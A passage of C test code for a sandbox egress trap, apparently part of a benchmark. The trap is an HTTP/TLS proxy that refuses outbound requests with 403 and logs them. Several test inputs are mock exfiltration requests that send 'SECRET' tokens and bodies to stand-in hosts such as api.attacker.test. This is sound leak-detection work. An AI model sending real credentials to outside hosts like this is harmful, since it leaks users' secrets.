/*
 * Tests for the trap's HTTP proxy port and its TLS (src/trap/httptrap.c,
 * tlsca.c): the head parser on buffers, table driven; then a trap served
 * in this process on a 127.0.0.1 port, driven by raw sockets and by a real
 * OpenSSL client that verifies the chain against the ca.pem the trap
 * wrote. After each exchange the records it added are compared whole, with
 * only "t" replaced by T.
 */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>

#include <openssl/err.h>
#include <openssl/ssl.h>
#include <openssl/x509v3.h>

#include "trap/trap.h"
#include "tap.h"

static char tmpdir[256];

/* ---- the head parser ---- */

struct hcase {
	const char *name;
	const char *in;
	long rc; /* -1, 0, or 1 for "the whole input" */
	const char *method, *target, *version;
	int nheaders;
	long long clen;
	int chunked, close;
};

static const struct hcase hcases[] = {
	{ "absolute form",
	    "GET http://a.test/p?q=1 HTTP/1.1\r\nHost: a.test"
	    "\r\n\r\n",
	    1, "GET", "http://a.test/p?q=1", "HTTP/1.1", 1, 0, 0, 0 },
	{ "CONNECT", "CONNECT a.test:443 HTTP/1.1\r\n\r\n", 1, "CONNECT",
	    "a.test:443", "HTTP/1.1", 0, 0, 0, 0 },
	{ "origin form, HTTP/1.0", "POST /x HTTP/1.0\nContent-Length: 12\n\n",
	    1, "POST", "/x", "HTTP/1.0", 1, 12, 0, 1 },
	{ "no version", "GET /\r\n\r\n", 1, "GET", "/", NULL, 0, 0, 0, 1 },
	{ "chunked last",
	    "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, "
	    "chunked\r\nContent-Length: 4\r\n\r\n",
	    1, "POST", "/", "HTTP/1.1", 2, -1, 1, 0 },
	{ "unknown coding",
	    "POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n"
	    "\r\n",
	    1, "POST", "/", "HTTP/1.1", 1, -2, 0, 1 },
	{ "bad length", "POST / HTTP/1.1\r\nContent-Length: 1x\r\n\r\n", 1,
	    "POST", "/", "HTTP/1.1", 1, -2, 0, 1 },
	{ "folded, odd lines kept raw",
	    "GET / HTTP/1.1\r\nA: b\r\n c\r\n"
	    "no colon\r\nConnection: close\r\n\r\n",
	    1, "GET", "/", "HTTP/1.1", 2, 0, 0, 1 },
	{ "8-bit target", "GET /caf\xc3\xa9\x01 HTTP/1.1\r\n\r\n", 1, "GET",
	    "/caf\xc3\xa9\x01", "HTTP/1.1", 0, 0, 0, 0 },
	{ "incomplete head", "GET / HTTP/1.1\r\nHost: a", 0, NULL, NULL, NULL,
	    0, 0, 0, 0 },
	{ "incomplete method", "GE", 0, NULL, NULL, NULL, 0, 0, 0, 0 },
	{ "binary", "\x16\x03\x01\x02\x00", -1, NULL, NULL, NULL, 0, 0, 0, 0 },
	{ "no space after the method", "GET\r\n\r\n", -1, NULL, NULL, NULL, 0,
	    0, 0, 0 },
	{ "empty target", "GET  HTTP/1.1\r\n\r\n", -1, NULL, NULL, NULL, 0, 0,
	    0, 0 },
	{ "empty line first", "\r\nGET / HTTP/1.1\r\n\r\n", -1, NULL, NULL,
	    NULL, 0, 0, 0, 0 },
	{ "long method", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA / HTTP/1.1",
	    -1, NULL, NULL, NULL, 0, 0, 0, 0 },
};

static void
test_parser(void)
{
	struct trap_req r;
	const char *why;
	size_t i;
	long rc;

	for (i = 0; i < sizeof(hcases) / sizeof(hcases[0]); i++) {
		const struct hcase *k = &hcases[i];
		size_t n = strlen(k->in);

		why = NULL;
		rc = trap_parse_head((const unsigned char *)k->in, n, 4096, &r,
		    &why);
		is_int(rc, k->rc == 1 ? (long)n : k->rc, "head: %s", k->name);
		if (k->rc != 1 || rc <= 0)
			continue;
		is_str(r.method, k->method, "head: %s: method", k->name);
		is_str(r.target, k->target, "head: %s: target", k->name);
		is_str(r.version, k->version, "head: %s: version", k->name);
		is_int(r.nheaders, k->nheaders, "head: %s: headers", k->name);
		is_int(r.clen, k->clen, "head: %s: length", k->name);
		is_int(r.chunked, k->chunked, "head: %s: chunked", k->name);
		is_int(r.close, k->close, "head: %s: close", k->name);
		trap_req_free(&r);
	}
	rc = trap_parse_head((const unsigned char *)"GET / HTTP/1.1\r\nA: b\r\n"
						    " c\r\n\r\n",
	    28, 4096, &r, &why);
	is_int(rc, 28, "head: folded");
	if (rc > 0)
		is_str(r.headers[0].value, "b c", "head: folded value joined");
	trap_req_free(&r);
	{
		char big[300];

		memset(big, 'x', sizeof(big));
		memcpy(big, "GET / HTTP/1.1\r\nX: ", 19);
		why = NULL;
		rc = trap_parse_head((unsigned char *)big, sizeof(big), 256, &r,
		    &why);
		is_int(rc, -1, "head: over max_head");
		is_str(why, "request head too long",
		    "head: over max_head: why");
		rc = trap_parse_head((unsigned char *)big, 200, 256, &r, &why);
		is_int(rc, 0, "head: under max_head, more needed");
	}
}

/* ---- a trap on loopback ---- */

static struct trap trap;
static int port;
static long seen; /* bytes of egress.jsonl compared so far */
static char ca_path[400];

static void *
serve_main(void *p)
{
	int *lfd = p;

	http_serve(*lfd, trap_http_handler, &trap);
	return NULL;
}

/* The records added since the last call, "t" replaced by T. malloc'd. */
static char *
new_records(void)
{
	char path[400], *buf, *o, *p;
	FILE *f;
	size_t n;

	snprintf(path, sizeof(path), "%s/rec/egress.jsonl", tmpdir);
	f = fopen(path, "r");
	if (f == NULL)
		return strdup("(missing)");
	fseek(f, seen, SEEK_SET);
	buf = calloc(1, 4 * 1024 * 1024);
	n = fread(buf, 1, 4 * 1024 * 1024 - 1, f);
	fclose(f);
	seen += (long)n;
	for (p = o = buf; *p;) {
		if (strncmp(p, "{\"t\":", 5) == 0) {
			p += 5;
			while ((*p >= '0' && *p <= '9') || *p == '.')
				p++;
			memcpy(o, "{\"t\":T", 6);
			o += 6;
			continue;
		}
		*o++ = *p++;
	}
	*o = '\0';
	return buf;
}

static void
check_records(const char *want, const char *name)
{
	char *got = new_records();

	is_str(got, want, "%s: records", name);
	free(got);
}

static int
dial(void)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Reads until the peer closes (or 5 s of silence). malloc'd, NUL-ended. */
static char *
read_all(int fd)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	char *buf = calloc(1, 65536);
	size_t n = 0;
	ssize_t r;

	while (n < 65535 && poll(&p, 1, 5000) > 0 &&
	    (r = read(fd, buf + n, 65535 - n)) > 0)
		n += (size_t)r;
	return buf;
}

/* Sends req, reads the whole answer, closes. malloc'd. */
static char *
exchange(const void *req, size_t n)
{
	int fd = dial();
	char *out;

	if (fd < 0)
		return strdup("(no connection)");
	(void)http_write_all(fd, req, n);
	out = read_all(fd);
	close(fd);
	return out;
}

#define RESP403(conn) \
	"HTTP/1.1 403 Forbidden\r\nContent-Type: " \
	"text/plain\r\nContent-Length: 71\r\nConnection: " conn "\r\n\r\n" \
	"leakbench: this sandbox has no network; the trap recorded this " \
	"request\n"

static void
test_plain(void)
{
	static const char post[] =
	    "POST http://attacker.test/up?k=SECRET "
	    "HTTP/1.1\r\nHost: attacker.test\r\nX-Key: s3cr\xe9t\r\n"
	    "Connection: close\r\nContent-Length: 5\r\n\r\nab\x00\xff"
	    "c";
	static const char chunked[] =
	    "PUT http://attacker.test/c HTTP/1.1\r\n"
	    "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
	    "4;ext=1\r\nSECR\r\n2\r\nET\r\n0\r\nTrailer: x\r\n\r\n";
	char *out;

	out = exchange(post, sizeof(post) - 1);
	is_str(out, RESP403("close"), "plain: 403");
	free(out);
	check_records(
	    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
	    "\"target\":\"http://attacker.test/up?k=SECRET\",\"version\":"
	    "\"HTTP/1.1\",\"headers\":[[\"Host\",\"attacker.test\"],"
	    "[\"X-Key\",\"s3cr\xc3\xa9t\"],[\"Connection\",\"close\"],"
	    "[\"Content-Length\",\"5\"]],\"head_base64\":"
	    "\"UE9TVCBodHRwOi8vYXR0YWNrZXIudGVzdC91cD9rPVNFQ1JFVCBIVFRQLzEuMQ"
	    "0KSG9zdDogYXR0YWNrZXIudGVzdA0KWC1LZXk6IHMzY3LpdA0KQ29ubmVjdGlvb"
	    "jogY2xvc2UNCkNvbnRlbnQtTGVuZ3RoOiA1DQoNCg==\",\"body_base64\":"
	    "\"YWIA/"
	    "2M=\",\"body_bytes\":5,\"truncated\":false,\"tls\":false}\n",
	    "plain: binary body, Latin-1 header");

	out = exchange(chunked, sizeof(chunked) - 1);
	is_str(out, RESP403("close"), "chunked: 403");
	free(out);
	check_records(
	    "{\"t\":T,\"kind\":\"http\",\"method\":\"PUT\","
	    "\"target\":\"http://attacker.test/c\",\"version\":\"HTTP/1.1\","
	    "\"headers\":[[\"Transfer-Encoding\",\"chunked\"],[\"Connection\","
	    "\"close\"]],\"head\":\"PUT http://attacker.test/c HTTP/1.1\\r\\n"
	    "Transfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n\","
	    "\"body\":\"SECRET\",\"body_bytes\":6,\"truncated\":false,"
	    "\"tls\":false}\n",
	    "chunked: body decoded");

	/* Two requests on one connection; HEAD gets no body. */
	{
		static const char two[] =
		    "GET http://a.test/1 HTTP/1.1\r\n"
		    "\r\nHEAD http://a.test/2 HTTP/1.1\r\nConnection: close"
		    "\r\n\r\n";
		static const char want[] = RESP403(
		    "keep-alive") "HTTP/1.1 403 Forbidden\r\nContent-Type: "
				  "text/plain\r\n"
				  "Content-Length: 71\r\nConnection: "
				  "close\r\n\r\n";

		out = exchange(two, sizeof(two) - 1);
		is_str(out, want, "keep-alive: two answers");
		free(out);
		check_records(
		    "{\"t\":T,\"kind\":\"http\",\"method\":\"GET\","
		    "\"target\":\"http://a.test/1\",\"version\":\"HTTP/1.1\","
		    "\"headers\":[],\"head\":\"GET http://a.test/1 HTTP/1.1"
		    "\\r\\n\\r\\n\",\"body\":\"\",\"body_bytes\":0,"
		    "\"truncated\":false,\"tls\":false}\n"
		    "{\"t\":T,\"kind\":\"http\",\"method\":\"HEAD\","
		    "\"target\":\"http://a.test/2\",\"version\":\"HTTP/1.1\","
		    "\"headers\":[[\"Connection\",\"close\"]],\"head\":\"HEAD "
		    "http://a.test/2 HTTP/1.1\\r\\nConnection: close\\r\\n"
		    "\\r\\n\",\"body\":\"\",\"body_bytes\":0,\"truncated\":"
		    "false,\"tls\":false}\n",
		    "keep-alive");
	}

	/* A body over the cap (32 bytes here): kept up to it, counted. */
	{
		char req[256];
		int n;

		n = snprintf(req, sizeof(req),
		    "POST /direct HTTP/1.1\r\n"
		    "Content-Length: 40\r\nConnection: close\r\n\r\n%s",
		    "0123456789abcdefghijklmnopqrstuvwxyzABCD");
		out = exchange(req, (size_t)n);
		is_str(out, RESP403("close"), "over the cap: 403");
		free(out);
		check_records(
		    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
		    "\"target\":\"/direct\",\"version\":\"HTTP/1.1\","
		    "\"headers\":[[\"Content-Length\",\"40\"],[\"Connection\","
		    "\"close\"]],\"head\":\"POST /direct HTTP/1.1\\r\\n"
		    "Content-Length: 40\\r\\nConnection: close\\r\\n\\r\\n\","
		    "\"body\":\"0123456789abcdefghijklmnopqrstuv\","
		    "\"body_bytes\":40,\"truncated\":true,\"tls\":false}\n",
		    "over the cap: truncated");
	}

	/* Expect: 100-continue gets its 100, the body is recorded. */
	{
		static const char head[] =
		    "POST http://a.test/e HTTP/1.1\r\n"
		    "Expect: 100-continue\r\nContent-Length: 3\r\n"
		    "Connection: close\r\n\r\n";
		struct pollfd p;
		char buf[64] = "";
		int fd = dial();
		ssize_t r;

		(void)http_write_all(fd, head, sizeof(head) - 1);
		p = (struct pollfd){ .fd = fd, .events = POLLIN };
		poll(&p, 1, 5000);
		r = read(fd, buf, 25);
		is_int(r, 25, "expect: interim answer");
		is_str(buf, "HTTP/1.1 100 Continue\r\n\r\n", "expect: 100");
		(void)http_write_all(fd, "abc", 3);
		out = read_all(fd);
		is_str(out, RESP403("close"), "expect: then 403");
		free(out);
		close(fd);
		out = new_records();
		ok(strstr(out, "\"body\":\"abc\",\"body_bytes\":3,") != NULL,
		    "expect: body recorded");
		free(out);
	}

	/* A head that trickles in, a byte at a time. */
	{
		static const char req[] = "GET http://slow.test/ HTTP/1.1\r\n"
					  "Connection: close\r\n\r\n";
		int fd = dial();

		for (size_t i = 0; i < sizeof(req) - 1; i++) {
			(void)http_write_all(fd, req + i, 1);
			poll(NULL, 0, 1);
		}
		out = read_all(fd);
		is_str(out, RESP403("close"), "trickle: 403");
		free(out);
		close(fd);
		out = new_records();
		ok(strstr(out, "\"target\":\"http://slow.test/\"") != NULL,
		    "trickle: recorded");
		free(out);
	}

	/* Not HTTP at all: the bytes are kept, 400. */
	{
		static const char junk[] = "\x01\x02 hello\r\n\r\n";

		out = exchange(junk, sizeof(junk) - 1);
		ok(strncmp(out, "HTTP/1.1 400 Bad Request\r\n", 26) == 0,
		    "junk: 400");
		free(out);
		check_records("{\"t\":T,\"kind\":\"http\",\"head\":\"\\u0001"
			      "\\u0002 "
			      "hello\\r\\n\\r\\n\",\"tls\":false,\"error\":"
			      "\"not an HTTP request\"}\n",
		    "junk");
	}

	/* A head cut short by the client, and a body cut short. */
	{
		int fd = dial();

		(void)http_write_all(fd, "GET http://x.test/SECRET HTT", 28);
		shutdown(fd, SHUT_WR);
		out = read_all(fd);
		is_str(out, "", "head cut short: no answer");
		free(out);
		close(fd);
		check_records("{\"t\":T,\"kind\":\"http\",\"head\":\"GET "
			      "http://x.test/SECRET "
			      "HTT\",\"tls\":false,\"error\":"
			      "\"request head cut short\"}\n",
		    "head cut short");

		fd = dial();
		(void)http_write_all(fd,
		    "POST /b HTTP/1.1\r\nContent-Length: "
		    "10\r\n\r\nSECR",
		    44);
		shutdown(fd, SHUT_WR);
		out = read_all(fd);
		is_str(out, RESP403("close"), "body cut short: 403");
		free(out);
		close(fd);
		check_records(
		    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
		    "\"target\":\"/b\",\"version\":\"HTTP/1.1\",\"headers\":"
		    "[[\"Content-Length\",\"10\"]],\"head\":\"POST /b HTTP/1.1"
		    "\\r\\nContent-Length: 10\\r\\n\\r\\n\",\"body\":\"SECR\","
		    "\"body_bytes\":4,\"truncated\":false,\"tls\":false,"
		    "\"error\":\"body cut short\"}\n",
		    "body cut short");
	}
}

static void
test_tunnel(void)
{
	static const char req[] = "CONNECT db.attacker.test:5432 HTTP/1.1\r\n"
				  "Host: db.attacker.test:5432\r\n\r\n";
	int fd = dial();
	char *out;

	(void)http_write_all(fd, req, sizeof(req) - 1);
	(void)http_write_all(fd, "\0\0\0\x08SECRET\xff", 11);
	shutdown(fd, SHUT_WR);
	out = read_all(fd);
	is_str(out, "HTTP/1.1 200 Connection established\r\n\r\n",
	    "tunnel: 200");
	free(out);
	close(fd);
	check_records(
	    "{\"t\":T,\"kind\":\"connect\",\"target\":"
	    "\"db.attacker.test:5432\",\"head\":\"CONNECT db.attacker.test:5432"
	    " HTTP/1.1\\r\\nHost: db.attacker.test:5432\\r\\n\\r\\n\"}\n"
	    "{\"t\":T,\"kind\":\"tunnel\",\"connect\":\"db.attacker.test:"
	    "5432\","
	    "\"data_base64\":\"AAAACFNFQ1JFVP8=\",\"data_bytes\":11,"
	    "\"truncated\":false}\n",
	    "tunnel: first bytes");

	/* Plain HTTP inside a tunnel. */
	{
		static const char in[] =
		    "CONNECT a.test:80 HTTP/1.1\r\n\r\n"
		    "GET /in HTTP/1.1\r\nConnection: close\r\n\r\n";

		out = exchange(in, sizeof(in) - 1);
		is_str(out,
		    "HTTP/1.1 200 Connection established\r\n\r\n" RESP403(
			"close"),
		    "http in a tunnel: 200 then 403");
		free(out);
		check_records(
		    "{\"t\":T,\"kind\":\"connect\",\"target\":"
		    "\"a.test:80\",\"head\":\"CONNECT a.test:80 HTTP/1.1\\r\\n"
		    "\\r\\n\"}\n{\"t\":T,\"kind\":\"http\",\"method\":\"GET\","
		    "\"target\":\"/in\",\"version\":\"HTTP/1.1\",\"headers\":"
		    "[[\"Connection\",\"close\"]],\"head\":\"GET /in HTTP/1.1"
		    "\\r\\nConnection: close\\r\\n\\r\\n\",\"body\":\"\","
		    "\"body_bytes\":0,\"truncated\":false,\"tls\":false,"
		    "\"connect\":\"a.test:80\"}\n",
		    "http in a tunnel");
	}
}

/* ---- TLS with a real client ---- */

/*
 * Opens TLS on fd as a client: SNI sni (NULL: none), verifying against
 * cafile (NULL: no CA, so verification fails) for host or ip. The SSL, or
 * NULL when the handshake fails (*ctx freed by the caller either way).
 */
static SSL *
tls_client(int fd, SSL_CTX **ctx, const char *cafile, const char *sni,
    const char *host, const char *ip)
{
	SSL *ssl;

	*ctx = SSL_CTX_new(TLS_client_method());
	if (cafile != NULL)
		SSL_CTX_load_verify_locations(*ctx, cafile, NULL);
	SSL_CTX_set_verify(*ctx, SSL_VERIFY_PEER, NULL);
	ssl = SSL_new(*ctx);
	SSL_set_fd(ssl, fd);
	if (sni != NULL)
		SSL_set_tlsext_host_name(ssl, sni);
	if (host != NULL)
		SSL_set1_host(ssl, host);
	if (ip != NULL)
		X509_VERIFY_PARAM_set1_ip_asc(SSL_get0_param(ssl), ip);
	if (SSL_connect(ssl) != 1) {
		ERR_clear_error();
		SSL_free(ssl);
		return NULL;
	}
	return ssl;
}

/* Reads the TLS side until close. malloc'd. */
static char *
tls_read_all(SSL *ssl)
{
	char *buf = calloc(1, 65536);
	size_t n = 0, got;

	while (n < 65535 && SSL_read_ex(ssl, buf + n, 65535 - n, &got) == 1)
		n += got;
	ERR_clear_error();
	return buf;
}

/* CONNECT target through the trap, reading the 200. fd or -1. */
static int
connect_through(const char *target)
{
	char req[300], buf[64];
	static const char ok200[] = "HTTP/1.1 200 Connection established"
				    "\r\n\r\n";
	int fd = dial(), n;
	size_t got = 0;
	ssize_t r;

	n = snprintf(req, sizeof(req),
	    "CONNECT %s HTTP/1.1\r\nHost: %s\r\n"
	    "\r\n",
	    target, target);
	(void)http_write_all(fd, req, (size_t)n);
	while (got < sizeof(ok200) - 1 &&
	    (r = read(fd, buf + got, sizeof(ok200) - 1 - got)) > 0)
		got += (size_t)r;
	buf[got] = '\0';
	if (strcmp(buf, ok200) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static void
test_tls(void)
{
	static const char post[] =
	    "POST /v1/upload?token=SECRET HTTP/1.1\r\n"
	    "Host: api.attacker.test\r\nContent-Length: 6\r\n"
	    "Connection: close\r\n\r\nSECRET";
	SSL_CTX *ctx;
	SSL *ssl;
	char *out;
	int fd;

	fd = connect_through("api.attacker.test:443");
	ok(fd >= 0, "tls: CONNECT answered 200");
	ssl = tls_client(fd, &ctx, ca_path, "api.attacker.test",
	    "api.attacker.test", NULL);
	ok(ssl != NULL, "tls: handshake verified against ca.pem");
	if (ssl != NULL) {
		SSL_write(ssl, post, sizeof(post) - 1);
		out = tls_read_all(ssl);
		is_str(out, RESP403("close"), "tls: 403 inside");
		free(out);
		SSL_free(ssl);
	}
	SSL_CTX_free(ctx);
	close(fd);
	check_records(
	    "{\"t\":T,\"kind\":\"connect\",\"target\":"
	    "\"api.attacker.test:443\",\"head\":\"CONNECT api.attacker.test:443"
	    " HTTP/1.1\\r\\nHost: api.attacker.test:443\\r\\n\\r\\n\"}\n"
	    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\",\"target\":"
	    "\"/v1/upload?token=SECRET\",\"version\":\"HTTP/1.1\",\"headers\":"
	    "[[\"Host\",\"api.attacker.test\"],[\"Content-Length\",\"6\"],"
	    "[\"Connection\",\"close\"]],\"head\":\"POST /v1/upload?token="
	    "SECRET HTTP/1.1\\r\\nHost: api.attacker.test\\r\\nContent-Length:"
	    " 6\\r\\nConnection: close\\r\\n\\r\\n\",\"body\":\"SECRET\","
	    "\"body_bytes\":6,\"truncated\":false,\"tls\":true,\"sni\":"
	    "\"api.attacker.test\",\"connect\":\"api.attacker.test:443\"}\n",
	    "tls: CONNECT and the request inside");

	/* An IP address, no SNI: the leaf has an IP SAN. */
	fd = connect_through("192.0.2.7:8443");
	ssl = tls_client(fd, &ctx, ca_path, NULL, NULL, "192.0.2.7");
	ok(ssl != NULL, "tls: IP target verified");
	if (ssl != NULL) {
		SSL_write(ssl, "GET / HTTP/1.0\r\n\r\n", 18);
		out = tls_read_all(ssl);
		is_str(out, RESP403("close"), "tls ip: 403");
		free(out);
		SSL_free(ssl);
	}
	SSL_CTX_free(ctx);
	close(fd);
	out = new_records();
	ok(strstr(out,
	       "\"tls\":true,\"sni\":null,\"connect\":"
	       "\"192.0.2.7:8443\"}\n") != NULL,
	    "tls ip: recorded without sni");
	free(out);

	/* A client that does not trust the CA: the attempt is recorded. */
	fd = connect_through("pinned.attacker.test:443");
	ssl = tls_client(fd, &ctx, NULL, "pinned.attacker.test", NULL, NULL);
	ok(ssl == NULL, "tls: untrusting client fails");
	SSL_CTX_free(ctx);
	out = read_all(fd);
	free(out);
	close(fd);
	check_records(
	    "{\"t\":T,\"kind\":\"connect\",\"target\":"
	    "\"pinned.attacker.test:443\",\"head\":\"CONNECT pinned.attacker."
	    "test:443 HTTP/1.1\\r\\nHost: pinned.attacker.test:443\\r\\n\\r\\n"
	    "\"}\n{\"t\":T,\"kind\":\"tls\",\"connect\":\"pinned.attacker."
	    "test:443\",\"sni\":\"pinned.attacker.test\",\"error\":\"error:"
	    "0A000418:SSL routines::tlsv1 alert unknown ca\"}\n",
	    "tls: handshake failure recorded");

	/* Direct TLS to the port, SNI differing from nothing. */
	fd = dial();
	ssl = tls_client(fd, &ctx, ca_path, "direct.attacker.test",
	    "direct.attacker.test", NULL);
	ok(ssl != NULL, "direct tls: verified");
	if (ssl != NULL) {
		SSL_write(ssl, "GET /d HTTP/1.1\r\nConnection: close\r\n\r\n",
		    38);
		out = tls_read_all(ssl);
		is_str(out, RESP403("close"), "direct tls: 403");
		free(out);
		SSL_free(ssl);
	}
	SSL_CTX_free(ctx);
	close(fd);
	out = new_records();
	ok(strstr(out,
	       "\"tls\":true,\"sni\":\"direct.attacker.test\","
	       "\"connect\":\"\"}\n") != NULL,
	    "direct tls: recorded");
	free(out);
}

static void
test_certs(void)
{
	X509 *a, *b, *ip;
	X509_STORE *st;
	X509_STORE_CTX *sc;
	char path[400], *got;
	struct stat sb;
	FILE *f;
	size_t n;

	a = trap_tls_leaf(trap.tls, "cache.attacker.test");
	b = trap_tls_leaf(trap.tls, "CACHE.attacker.test");
	ok(a != NULL && a == b, "leaf: cached per host, any case");
	is_int(X509_check_host(a, "cache.attacker.test", 0, 0, NULL), 1,
	    "leaf: DNS SAN");
	ip = trap_tls_leaf(trap.tls, "2001:db8::1");
	is_int(X509_check_ip_asc(ip, "2001:db8::1", 0), 1, "leaf: IPv6 SAN");
	st = X509_STORE_new();
	X509_STORE_load_file(st, ca_path);
	sc = X509_STORE_CTX_new();
	X509_STORE_CTX_init(sc, st, a, NULL);
	X509_STORE_CTX_set_purpose(sc, X509_PURPOSE_SSL_SERVER);
	is_int(X509_verify_cert(sc), 1,
	    "leaf: verifies as a TLS server "
	    "against ca.pem");
	X509_STORE_CTX_free(sc);
	X509_STORE_free(st);
	X509_free(a);
	X509_free(b);
	X509_free(ip);

	stat(ca_path, &sb);
	is_int(sb.st_mode & 0777, 0644, "ca.pem: mode 0644");
	snprintf(path, sizeof(path), "%s/ca/bundle.pem", tmpdir);
	stat(path, &sb);
	is_int(sb.st_mode & 0777, 0644, "bundle.pem: mode 0644");
	got = calloc(1, 65536);
	f = fopen(path, "r");
	n = f ? fread(got, 1, 65535, f) : 0;
	if (f)
		fclose(f);
	got[n] = '\0';
	ok(strncmp(got, "SYSTEM CA\n-----BEGIN CERTIFICATE-----\n", 38) == 0,
	    "bundle.pem: the system bundle, a newline added, then the CA");
	is_str(got + 10, trap_tls_ca_pem(trap.tls),
	    "bundle.pem: ends with "
	    "ca.pem");
	ok(strstr(got, "PRIVATE") == NULL, "bundle.pem: no key");
	free(got);
	snprintf(path, sizeof(path), "%s/ca/ca.pem.tmp", tmpdir);
	ok(access(path, F_OK) < 0, "no temporary file left");
	{
		char err[600], want[700];

		snprintf(path, sizeof(path), "%s/ca/ca.pem/x", tmpdir);
		is_int(trap_tls_write(trap.tls, path, NULL, err, sizeof(err)),
		    -1, "ca-out under a file fails");
		snprintf(want, sizeof(want),
		    "cannot create directory '%s': "
		    "not a directory",
		    path);
		is_str(err, want, "ca-out under a file: message");
	}
}

/*
 * Sets the trap's limits once no connection is being served (at most
 * 10 s): a handler reads them as it starts, and the release of its count
 * orders that read before this write (ThreadSanitizer saw the race).
 */
static void
set_limits(int max_conns, int idle_ms)
{
	for (int i = 0;
	     i < 1000 && __atomic_load_n(&trap.active, __ATOMIC_ACQUIRE) > 0;
	     i++)
		poll(NULL, 0, 10);
	trap.lim.max_conns = max_conns;
	trap.lim.idle_ms = idle_ms;
}

static void
test_busy(void)
{
	int hold, fd;
	char *out;

	set_limits(1, trap.lim.idle_ms);
	hold = dial();
	(void)http_write_all(hold, "G", 1); /* being served now */
	poll(NULL, 0, 200);
	fd = dial();
	/* Over the cap: not served, but what it sends is recorded. */
	(void)http_write_all(fd, "GET http://x.test/?k=SECRET HTTP/1.1\r\n",
	    38);
	out = read_all(fd);
	is_str(out, "", "busy: closed without an answer");
	free(out);
	close(fd);
	close(hold);
	poll(NULL, 0, 200);
	out = new_records();
	ok(strstr(out,
	       "{\"t\":T,\"kind\":\"busy\",\"max_conns\":1,\"data\":\"GET "
	       "http://x.test/?k=SECRET HTTP/1.1\\r\\n\",\"data_bytes\":38,"
	       "\"truncated\":false}\n") != NULL,
	    "busy: recorded, with what it sent");
	free(out);
	set_limits(8, trap.lim.idle_ms);
}

static void
test_idle(void)
{
	long long t0;
	struct timespec ts;
	char *out;
	int fd;

	set_limits(trap.lim.max_conns, 300);
	clock_gettime(CLOCK_MONOTONIC, &ts);
	t0 = ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
	fd = dial();
	(void)http_write_all(fd, "GET http://idle.test/SECRET", 27);
	out = read_all(fd);
	clock_gettime(CLOCK_MONOTONIC, &ts);
	is_str(out, "", "idle: closed without an answer");
	ok(ts.tv_sec * 1000LL + ts.tv_nsec / 1000000 - t0 < 3000,
	    "idle: closed after the idle timeout");
	free(out);
	close(fd);
	check_records("{\"t\":T,\"kind\":\"http\",\"head\":\"GET "
		      "http://idle.test/"
		      "SECRET\",\"tls\":false,\"error\":\"request "
		      "head cut short\"}\n",
	    "idle: what came is recorded");
	set_limits(trap.lim.max_conns, 3000);
}

static int
rm_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(path);
}

/*
 * --echo: a request to an echo host is answered 200 with itself (head as
 * received, body as recorded), by the URL's host or the CONNECT target's,
 * in any case; every other host still gets 403, and both are recorded.
 */
static void
test_echo(void)
{
	static const char post[] = "POST http://Echo.Test/x HTTP/1.1\r\n"
				   "Host: echo.test\r\nConnection: close\r\n"
				   "Content-Length: 6\r\n\r\nSECRET";
	static const char want[] =
	    "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
	    "Content-Length: 97\r\nConnection: close\r\n\r\n"
	    "POST http://Echo.Test/x HTTP/1.1\r\nHost: echo.test\r\n"
	    "Connection: close\r\nContent-Length: 6\r\n\r\nSECRET";
	static const char in[] =
	    "CONNECT echo.test:80 HTTP/1.1\r\n\r\n"
	    "GET /in HTTP/1.1\r\nConnection: close\r\n\r\n";
	static const char want_in[] =
	    "HTTP/1.1 200 Connection established\r\n\r\n"
	    "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
	    "Content-Length: 39\r\nConnection: close\r\n\r\n"
	    "GET /in HTTP/1.1\r\nConnection: close\r\n\r\n";
	static const char other[] = "GET http://echo.test.evil.test/ HTTP/1.1"
				    "\r\nConnection: close\r\n\r\n";
	static const char *hosts[] = { "other.test", "echo.test" };
	char *out, *rec;

	trap.echo = hosts;
	trap.necho = 2;
	out = exchange(post, sizeof(post) - 1);
	is_str(out, want, "echo: the request comes back");
	free(out);
	out = exchange(in, sizeof(in) - 1);
	is_str(out, want_in, "echo: in a tunnel to the host");
	free(out);
	out = exchange(other, sizeof(other) - 1);
	is_str(out, RESP403("close"), "echo: another host: 403");
	free(out);
	rec = new_records();
	ok(strstr(rec, "\"target\":\"http://Echo.Test/x\"") != NULL &&
		strstr(rec, "\"body\":\"SECRET\"") != NULL &&
		strstr(rec, "\"target\":\"/in\"") != NULL &&
		strstr(rec, "echo.test.evil.test") != NULL,
	    "echo: every request recorded");
	free(rec);
	trap.echo = NULL;
	trap.necho = 0;
}

int
main(void)
{
	static int lfd;
	char err[256], path[400];
	pthread_t tid;
	FILE *f;

	signal(SIGPIPE, SIG_IGN);
	snprintf(tmpdir, sizeof(tmpdir), "%s/lb-trap-http.XXXXXX",
	    getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (mkdtemp(tmpdir) == NULL)
		return 1;
	test_parser();

	trap.lim = (struct trap_limits){ .max_conns = 8,
		.idle_ms = 3000,
		.head_ms = 5000,
		.body_cap = 32,
		.max_head = 4096 };
